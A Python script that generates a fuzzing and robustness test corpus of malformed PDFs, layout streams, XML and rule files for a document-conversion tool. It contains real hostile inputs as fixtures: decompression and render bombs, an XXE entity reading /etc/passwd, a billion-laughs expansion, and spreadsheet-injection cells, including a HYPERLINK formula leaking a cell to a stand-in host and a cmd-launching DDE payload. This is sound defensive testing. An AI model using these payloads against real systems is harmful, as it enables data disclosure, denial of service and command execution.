#!/usr/bin/env python3
"""make-corpus.py OUTDIR [--big] - write the robustness corpus of hostile and
broken inputs (issue #7, docs/robustness.md).

Without --big it writes the small cases committed in tests/bad/cases/ (run
`python3 tests/bad/make-corpus.py tests/bad/cases` after changing this file
and commit what changed; the output is the same bytes on every run).  With
--big it writes only the large cases that the `bad` suite makes at run time
into a temporary directory instead of committing them: a decompression bomb,
a 2,000-page PDF and a layout stream with a 10 MB line.  Their expectations
are tests/bad/big/NAME.expect.

Every PDF here is written byte by byte from PDF syntax, so what each case
contains is known from this file, not from a producer.  The expected
behaviour of each case is its NAME.expect beside it (see docs/robustness.md).
"""
import os
import random
import sys
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
SAMPLES_BAD = os.path.join(HERE, "..", "..", "samples", "bad")
HELLO = b"Hello 2023. 4. 21"
HELLO_OPS = b"BT /F1 12 Tf 72 720 Td (" + HELLO + b") Tj ET"


def pdf(objects, root=1, broken_xref=False, no_xref=False, info=None):
    """Serialise objects (list of bytes, object i+1) into a PDF file.
    broken_xref: every offset in the table is wrong; no_xref: no table,
    trailer or startxref at all.  Either way a reader must reconstruct."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    if no_xref:
        return bytes(out)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        if broken_xref:
            off += 7  # every offset wrong: Poppler must reconstruct
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, b" /Info %d 0 R" % info if info else b"", xref)
    return bytes(out)


def stream(data, extra=b""):
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def flate(data, extra=b""):
    return stream(zlib.compress(data, 9), b"/Filter /FlateDecode " + extra)


# Text matrices that make a line read left to right once the page is
# turned by /Rotate (as a scanner or a landscape table page does it).
UPRIGHT = {0: b"1 0 0 1 72 720", 90: b"0 1 -1 0 100 100", 180: b"-1 0 0 -1 500 100",
           270: b"0 -1 1 0 500 700"}


def text_page_doc(mediabox=b"[0 0 595 842]", rotate=0, text=HELLO, pages=1,
                  broken_xref=False, no_xref=False, info=None):
    """pages copies of one page showing `text` in Helvetica at (72, 720)
    of a 595 x 842 page (so a 1 x 1 page shows nothing of it), upright as
    displayed after /Rotate.  info: the body of a document information
    dictionary."""
    content = b"BT /F1 12 Tf " + UPRIGHT[rotate] + b" Tm (" + text + b") Tj ET"
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(pages))
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
            stream(content)]
    for _ in range(pages):
        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox " + mediabox +
                    b" /Rotate %d /Contents 3 0 R /Resources << /Font << /F1 %d 0 R >> >> >>"
                    % (rotate, 4 + pages))
    objs.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    if info is not None:
        objs.append(info)
    return pdf(objs, broken_xref=broken_xref, no_xref=no_xref,
               info=len(objs) if info is not None else None)


def article_doc(pages=6):
    """A small issue-like document: each page has a heading and a few
    paragraphs in a Flate-compressed content stream, with the page's own
    objects in page order, so cutting the file keeps the first pages whole."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", None,
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold >>"]
    kids = []
    for p in range(1, pages + 1):
        ops = [b"BT /F2 16 Tf 72 760 Td (Article %02d: policy trends) Tj ET" % p,
               b"BT /F1 10 Tf 72 730 Td 14 TL"]
        for k in range(30):
            ops.append(b"(Page %d line %02d. Hello 2023. 4. 21 - science and technology) '" % (p, k))
        ops.append(b"ET 72 300 m 523 300 l S 72 250 451 40 re f")
        objs.append(flate(b"\n".join(ops)))
        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R"
                    b" /Resources << /Font << /F1 3 0 R /F2 4 0 R >> >> >>" % len(objs))
        kids.append(len(objs))
    objs[1] = (b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % k for k in kids)
               + b"] /Count %d >>" % pages)
    return pdf(objs)


def zero_pages():
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [] /Count 0 >>"])


def page_tree_loop():
    """A page tree whose Kids point back at the root: a reader that walks
    it naively never stops."""
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"])


def count_lie():
    """/Count says two billion pages; there is one."""
    doc = text_page_doc()
    return doc.replace(b"/Count 1 >>", b"/Count 2000000000 >>")


def type3_no_tounicode():
    """A Type3 font whose glyphs are boxes named g1, g2 without ToUnicode:
    the text layer has glyphs but no Unicode."""
    glyph = stream(b"500 0 0 0 500 700 d1 0 0 500 700 re f")
    content = stream(b"BT /T3 12 Tf 72 720 Td (\x01\x02\x01\x02\x01) Tj ET")
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        content,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R"
        b" /Resources << /Font << /T3 5 0 R >> >> >>",
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 500 700]"
        b" /FontMatrix [0.001 0 0 0.001 0 0] /CharProcs << /g1 6 0 R /g2 6 0 R >>"
        b" /Encoding << /Type /Encoding /Differences [1 /g1 /g2] >>"
        b" /FirstChar 1 /LastChar 2 /Widths [500 500] /Resources << >> >>",
        glyph])


def image_doc(img):
    """One A4 page drawing the image XObject `img` over most of the page."""
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        stream(b"q 500 0 0 700 50 70 cm /Im1 Do Q"),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R"
        b" /Resources << /XObject << /Im1 5 0 R >> >> >>",
        img])


def page_doc(content, res=b"", more=(), mediabox=b"[0 0 595 842]", extra=b""):
    """One page of `content` with Helvetica as /F1, `res` added to its
    resources, `extra` to its dictionary; `more` are objects 5, 6, ..."""
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox " + mediabox + b" " + extra
                + b" /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> " + res + b" >> >>",
                content,
                b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"] + list(more))


def inline_bomb():
    """An inline image declaring 30000 x 30000 grey pixels (1 MB of zeros,
    Flate) in a compressed content stream: the bytes scan cannot see it,
    Poppler read it through its filters to skip it (10 s) and rendered it
    for OCR (3.5 GB)."""
    ii = (b"q 500 0 0 700 50 50 cm BI /W 30000 /H 30000 /CS /G /BPC 8 /F /Fl ID "
          + zlib.compress(bytes(1 << 20)) + b" EI Q " + HELLO_OPS)
    return page_doc(flate(ii))


def forms_fanout(levels=30):
    """Form XObjects each drawing the next one twice: 2^30 forms to draw."""
    objs = []
    for i in range(levels):
        body = (b"/X Do /X Do" if i < levels - 1
                else b"BT /F1 12 Tf 72 100 Td (z) Tj ET 10 10 m 300 10 l S")
        objs.append(stream(body, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]"
                           b" /Resources << /Font << /F1 5 0 R >> /XObject << /X %d 0 R >> >>"
                           % (7 + i)))
    return page_doc(stream(b"/X Do " + HELLO_OPS), res=b"/XObject << /X 6 0 R >>", more=objs)


def glyph_grid(n):
    """One glyph in each cell of an n x n grid, every glyph a word of its
    own: Poppler's grouping of the words grows much faster than n*n."""
    g = bytearray(b"BT /F1 1 Tf\n")
    for i in range(n):
        for j in range(n):
            g += b"1 0 0 1 %.2f %.2f Tm (c) Tj\n" % (11 + j * 1.9, 11 + i * 2.7)
    return page_doc(flate(bytes(g + b"ET")))


def deep_dict(levels=1000):
    """A page dictionary holding `levels` nested dictionaries before its
    /Contents: past 500, Poppler drops the rest of the page without a word."""
    return page_doc(stream(HELLO_OPS), extra=b"/Foo " + b"<< /A " * levels + b">>" * levels)


def image_many(draws=2000, side=4000):
    """One side x side image drawn `draws` times on one page: every drawing
    decodes it again when the page is rendered."""
    z = zlib.compressobj(9)
    data = b"".join(z.compress(bytes([0x40]) * side) for _ in range(side)) + z.flush()
    ops = b"".join(b"q 10 0 0 10 %d %d cm /I Do Q\n" % ((i % 50) * 11, (i // 50) * 11)
                   for i in range(draws))
    return page_doc(stream(ops), res=b"/XObject << /I 6 0 R >>",
                    more=[stream(data, b"/Type /XObject /Subtype /Image /Width %d /Height %d"
                                 b" /ColorSpace /DeviceGray /BitsPerComponent 8"
                                 b" /Filter /FlateDecode" % (side, side))])


def image_bomb(side=30000):
    """An 8-bit grey image of side x side pixels (all zero, Flate) on an A4
    page: under a megabyte on disk, side*side bytes when decoded."""
    z = zlib.compressobj(9)
    row = bytes(side)
    data = b"".join(z.compress(row) for _ in range(side)) + z.flush()
    return image_doc(stream(data, b"/Type /XObject /Subtype /Image /Width %d /Height %d"
                                  b" /ColorSpace /DeviceGray /BitsPerComponent 8"
                                  b" /Filter /FlateDecode" % (side, side)))


def image_claims_huge():
    """An image that claims 30000 x 30000 pixels but holds a few bytes: the
    size alone must not make anyone allocate 900 MB."""
    data = zlib.compress(bytes(1000))
    return image_doc(stream(data, b"/Type /XObject /Subtype /Image /Width 30000 /Height 30000"
                                  b" /ColorSpace /DeviceGray /BitsPerComponent 8"
                                  b" /Filter /FlateDecode"))


def image_bad_jpeg():
    """A DCT (JPEG) image whose data is not a JPEG."""
    data = b"\xff\xd8\xff\xe0" + bytes(range(256)) * 4
    return image_doc(stream(data, b"/Type /XObject /Subtype /Image /Width 640 /Height 480"
                                  b" /ColorSpace /DeviceRGB /BitsPerComponent 8"
                                  b" /Filter /DCTDecode"))


def escapes_doc():
    """Text and metadata holding the stream's special characters (TAB,
    backslash, CR, LF): the stream must escape them and stay one record a line."""
    return text_page_doc(text=b"tab\\tback\\\\slash\\rcr\\nnl " + HELLO,
                         info=b"<< /Producer (Prod\\tucer\\nline2\\\\) /Creator (a\\rb) >>")


def bitflip(data, seed=7, every=97):
    """Flip one random bit in every `every` bytes after the header."""
    rnd = random.Random(seed)
    b = bytearray(data)
    for i in range(16, len(b), every):
        b[i + rnd.randrange(min(every, len(b) - i))] ^= 1 << rnd.randrange(8)
    return bytes(b)


def stream_cases(put):
    doc = b"doc\tx.pdf\t1\t-\t-\t-\n"
    page = b"page\t1\t595.0\t842.0\t0\ttext\t-\n"
    line = b"line\t1\t-\t1\t1\t2\t2\t10\t-\ttext\t-\t%s\n"
    endp = b"endpage\t1\t1\t0\nend\t1\n"
    put("stream-version.kpl", b"kplayout\t2\nend\t0\n")
    put("stream-cut.kpl", b"kplayout\t1\n" + doc + page + b"line\t1\tb1\t1")
    put("stream-utf8.kpl", b"kplayout\t1\n" + doc + page + line % b"\xff\xfe" + endp)
    put("stream-noheader.kpl", b"page\t1\n")
    put("stream-empty.kpl", b"")
    put("stream-empty-line.kpl", b"\n")  # fuzz_stream: memchr(NULL) in kp_reader_next
    put("stream-nul.kpl", b"kplayout\t1\n" + doc + page + line % b"a\0b" + endp)
    put("stream-noend.kpl", b"kplayout\t1\n" + doc + page + line % b"x" + b"endpage\t1\t1\t0\n")
    put("stream-after-end.kpl", b"kplayout\t1\n" + doc + page + line % b"x" + endp + doc)
    put("stream-crlf.kpl", (b"kplayout\t1\n" + doc + page + line % b"x" + endp).replace(b"\n", b"\r\n"))
    put("stream-page-order.kpl", b"kplayout\t1\n" + doc + page + b"endpage\t1\t0\t0\n" + page
        + b"endpage\t1\t0\t0\nend\t2\n")
    put("stream-bigtable.kpl", b"kplayout\t1\n" + doc + page
        + b"table\t1\tt1\t0\t0\t9\t9\t100000\t100000\ttext\t-\t-\t1\t1\n" + endp)
    big = b"9223372036854775807"
    put("stream-span.kpl", b"kplayout\t1\n" + doc + page
        + b"table\t1\tt1\t0\t0\t9\t9\t2\t2\ttext\t-\t-\t1\t1\n"
        + b"cell\t1\tt1\t1\t1\t" + big + b"\t" + big + b"\t0\t0\t9\t9\t0\ttext\t-\tx\n" + endp)
    put("stream-nan.kpl", b"kplayout\t1\n" + doc + page
        + b"line\t1\t-\tnan\tinf\t-inf\t0x1p4\tnan\t-\ttext\tnan\tx\n" + endp)
    # strtod reads 0x48 as 72; no writer writes hex
    put("stream-hexnum.kpl", b"kplayout\t1\n" + doc + page
        + b"line\t1\t-\t0x48\t1\t2\t2\t10\t-\ttext\t-\tx\n" + endp)
    put("stream-ctrl.kpl", b"kplayout\t1\ndoc\ta\x01b\xef\xbf\xbe.pdf\t1\t-\t-\t-\n" + page
        + line % b"x\xef\xbf\xbfy\x1f" + endp)  # valid UTF-8, not XML 1.0
    put("stream-bignum.kpl", b"kplayout\t1\n" + b"doc\tx.pdf\t99999999999999999999\t-\t-\t-\n"
        + page + endp)


def xml_cases(put):
    head = b'<issue version="1" source="a" pages="1" rules="kostec">'
    put("xml-xxe.xml", b'<?xml version="1.0"?>\n<!DOCTYPE issue [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
        + head + b'<meta><series>&x;</series></meta></issue>\n')
    lol = b'<!ENTITY l0 "lol">' + b"".join(
        b'<!ENTITY l%d "%s">' % (i, (b"&l%d;" % (i - 1)) * 10) for i in range(1, 10))
    put("xml-laughs.xml", b'<?xml version="1.0"?>\n<!DOCTYPE issue [' + lol + b']>\n'
        + head + b'<meta><series>&l9;</series></meta></issue>\n')
    put("xml-deep.xml", head + b"<meta/><part n='I' title='x'>" + b"<p>" * 10000
        + b"</p>" * 10000 + b"</part></issue>\n")
    put("xml-root.xml", b'<?xml version="1.0"?>\n<html><body/></html>\n')
    put("xml-version.xml", b'<issue version="2" source="a" pages="1" rules="kostec"><meta/></issue>\n')
    put("xml-empty.xml", b"")
    put("xml-utf8.xml", head + b"<meta><series>\xff\xfe</series></meta></issue>\n")
    put("xml-cut.xml", head + b"<meta><series>abc</ser")
    put("xml-ns.xml", b'<issue xmlns="http://www.tei-c.org/ns/1.0" version="1" source="a" pages="1"'
        b' rules="kostec"><meta/></issue>\n')
    put("xml-counts.xml", head + b'<part n="I" title="t"><article n="01"><title>t</title>'
        b'<table type="grid" rows="99999999999999999999" cols="-1">'
        b'<row><cell row="4294967296" col="-5" rowspan="0" colspan="99999999999"><line>x</line>'
        b'</cell></row></table></article></part></issue>\n')
    put("xml-ctrl.xml", head + b"<meta><series>a&#x1;b &#xFFFE; &#xD800;</series></meta></issue>\n")
    # colspan = LONG_MAX over a body cell further right: col + colspan
    # overflowed in the CSV writer (UBSan)
    put("xml-span-overflow.xml", head + b'<part n="I" title="t"><article n="01"><title>t</title>'
        b'<table type="grid" rows="2" cols="2"><row header="1">'
        b'<cell row="0" col="1" colspan="9223372036854775807"><line>H</line></cell></row>'
        b'<row><cell row="1" col="5"><line>b</line></cell></row></table></article></part></issue>\n')
    # cells a spreadsheet would run as formulas
    put("xml-csv-inject.xml", head + b'<part n="I" title="t"><article n="01"><title>t</title>'
        b'<table type="grid" rows="2" cols="2"><caption>=HYPERLINK("http://e/?"&amp;A1,"x")</caption>'
        b'<row header="1"><cell row="0" col="0"><line>@SUM(1+1)*cmd|\' /C calc\'!A0</line></cell>'
        b'<cell row="0" col="1"><line>h</line></cell></row>'
        b'<row><cell row="1" col="0"><line>-1,200.5</line></cell>'
        b'<cell row="1" col="1"><line>-2+3</line></cell></row></table></article></part></issue>\n')


def rules_cases(put):
    put("rules-regex.rules", b"series\t([a-z\n")
    put("rules-role.rules", b"# a comment\nnosuchrole\tabc\n")
    put("rules-group.rules", b"part\t(a)(b)\ttitle=7\n")
    put("rules-utf8.rules", b"series\t\xc0\xaf\n")


def pdf_cases(put, link):
    put("empty.pdf", b"")
    put("text.pdf", "이것은 PDF가 아닙니다.\nplain text\n".encode())
    art = article_doc()
    for pct in (10, 50, 90):
        put("truncated-%d.pdf" % pct, art[: len(art) * pct // 100])
    put("bitflip.pdf", bitflip(art))
    put("broken-xref.pdf", text_page_doc(broken_xref=True))
    put("no-xref.pdf", text_page_doc(no_xref=True))
    put("zero-pages.pdf", zero_pages())
    put("page-loop.pdf", page_tree_loop())
    put("count-lie.pdf", count_lie())
    put("huge-page.pdf", text_page_doc(mediabox=b"[0 0 14400 14400]"))
    # a page side past the stream's KP_PAGE_MAX: pdf2text wrote it, structure refused it
    put("page-1e11.pdf", text_page_doc(mediabox=b"[0 0 99999999999 99999999999]"))
    put("tiny-page.pdf", text_page_doc(mediabox=b"[0 0 1 1]"))
    for r in (90, 180, 270):
        put("rotate-%d.pdf" % r, text_page_doc(rotate=r))
    put("type3.pdf", type3_no_tounicode())
    put("image-claims-huge.pdf", image_claims_huge())
    put("image-bad-jpeg.pdf", image_bad_jpeg())
    put("escapes.pdf", escapes_doc())
    # fuzz_pdf: a /JPXDecode with no stream after it: jpx_pixels made a
    # pointer past the end before checking (UBSan: pointer overflow)
    put("fuzz-jpx-nostream.pdf", zero_pages() + b"% /JPXDecode\n")
    put("inline-bomb.pdf", inline_bomb())
    put("forms-fanout.pdf", forms_fanout())
    link("forms-fanout-timeout.pdf", "forms-fanout.pdf")
    put("glyph-grid.pdf", glyph_grid(80))
    put("deep-dict.pdf", deep_dict())
    # valid PDF: the box is [-595 -842 0 0], the text at (72, 720) is off it
    put("mediabox-negative.pdf", text_page_doc(mediabox=b"[0 0 -595 -842]"))
    # the broken samples, under the names of the cases that use them
    for name, target in (("sample-empty.pdf", "empty.pdf"),
                         ("sample-not-a-pdf.pdf", "not-a-pdf.pdf"),
                         ("sample-truncated.pdf", "truncated.pdf"),
                         ("sample-blank.pdf", "blank.pdf"),
                         ("encrypted-nopass.pdf", "encrypted.pdf"),
                         ("encrypted-wrong.pdf", "encrypted.pdf"),
                         ("encrypted-right.pdf", "encrypted.pdf")):
        link(name, os.path.join(SAMPLES_BAD, target))


def stream_tables(shapes):
    """A layout stream of one page holding a table of rows x cols one-cell
    cells ("c") for each (rows, cols) of shapes."""
    out = [b"kplayout\t1\ndoc\tx.pdf\t1\t-\t-\t-\npage\t1\t595.0\t842.0\t0\ttext\t-\n"]
    for t, (rows, cols) in enumerate(shapes):
        out.append(b"table\t1\tt%d\t50\t50\t500\t800\t%d\t%d\ttext\t-\t-\t1\t1\n" % (t, rows, cols))
        out.extend(b"cell\t1\tt%d\t%d\t%d\t1\t1\t50\t50\t500\t800\t0\ttext\t-\tc\n"
                   % (t, i // cols, i % cols) for i in range(rows * cols))
    out.append(b"endpage\t1\t0\t0\nend\t1\n")
    return b"".join(out)


def big_cases(put, link):
    put("bomb.pdf", image_bomb())
    put("pages-2000.pdf", text_page_doc(pages=2000))
    put("image-many.pdf", image_many())
    link("pages-2000-max100.pdf", "pages-2000.pdf")
    put("stream-longline.kpl", b"kplayout\t1\ndoc\tx.pdf\t1\t-\t-\t-\nline\t"
        + b"a" * (10 * 1024 * 1024) + b"\nend\t0\n")
    # 200000 attributes on one element: libxml2 2.9.14 did not finish
    put("xml-many-attrs.xml", b'<issue version="1" source="a" pages="1" rules="kostec" '
        + b" ".join(b'a%d="x"' % i for i in range(200000)) + b"><meta/></issue>\n")
    # a 1 MiB field that is no number: the message quotes 40 bytes of it
    put("stream-longnum.kpl", b"kplayout\t1\ndoc\tx.pdf\t1\t-\t-\t-\n"
        b"page\t1\t595.0\t842.0\t0\ttext\t-\nline\t1\t-\t" + b"1" * (1 << 20)
        + b"x\t1\t2\t2\t10\t-\ttext\t-\tx\nendpage\t1\t1\t0\nend\t1\n")
    # 13 tables of 1000 x 100 cells: 1.3 M cells took 2.3 GB; refused past 100000
    put("stream-cells-1m.kpl", stream_tables([(1000, 100)] * 13))
    # a table of 1 x 100000 cells: a linear cell_at per column took 20 s
    put("stream-table-wide.kpl", stream_tables([(1, 100000)]))
    # 200000 articles, 34 MB: 2.1 GB for TEI; refused past 300000 elements
    put("xml-many-articles.xml", b'<issue version="1" source="x.pdf" pages="1" rules="kostec">'
        b'<meta><date when="2023-04-21" page="1" box="0 0 1 1">2023. 4. 21</date></meta>'
        + b"".join(b'<part n="I" title="t%d" page="1" box="0 0 1 1"><article n="01" page="1"'
                   b' box="0 0 1 1" category="t%d"><title page="1" box="0 0 1 1">t%d</title>'
                   b'</article></part>' % (i, i, i) for i in range(200000))
        + b"</issue>\n")
    # 20000 header cells each spanning all 20000 columns: every body cell's
    # column header joined all of them (3 MB of XML, 3.4 GB of CSV)
    n = 20000
    put("xml-header-spans.xml", b'<issue version="1" source="a" pages="1" rules="kostec"><meta/>'
        b'<part n="I" title="t"><article n="01"><title>t</title>'
        b'<table type="grid" rows="2" cols="%d"><row header="1">' % n
        + b"".join(b'<cell row="0" col="0" colspan="%d"><line>h%d</line></cell>' % (n, i)
                   for i in range(n))
        + b"</row><row>"
        + b"".join(b'<cell row="1" col="%d"><line>b</line></cell>' % i for i in range(n))
        + b"</row></table></article></part></issue>\n")


def main():
    args = [a for a in sys.argv[1:] if a != "--big"]
    if len(args) != 1:
        sys.exit("usage: make-corpus.py OUTDIR [--big]")
    out = args[0]
    os.makedirs(out, exist_ok=True)

    def put(name, data):
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)

    def link(name, target):
        """A relative symbolic link, so one input serves several cases."""
        path = os.path.join(out, name)
        if os.path.lexists(path):
            os.remove(path)
        os.symlink(os.path.relpath(target, out) if os.path.isabs(target) else target, path)

    if "--big" in sys.argv[1:]:
        big_cases(put, link)
        return
    pdf_cases(put, link)
    stream_cases(put)
    xml_cases(put)
    rules_cases(put)


if __name__ == "__main__":
    main()
